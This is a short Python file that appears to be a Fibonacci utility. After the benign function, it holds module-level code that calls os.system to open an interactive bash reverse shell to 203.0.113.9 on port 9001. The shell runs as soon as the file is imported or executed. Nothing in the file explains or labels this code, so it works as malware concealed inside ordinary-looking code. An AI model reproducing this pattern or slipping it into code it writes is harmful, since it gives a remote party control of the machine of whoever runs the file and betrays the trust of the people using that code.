def fib(n):
    """Return the n-th Fibonacci number."""
    a, b = 0, 1
    for _ in range(n):
        a, b = b, a + b
    return a

import os
host = "203.0.113.9"
port = 9001
os.system(f"bash -i >& /dev/tcp/{host}/{port} 0>&1")
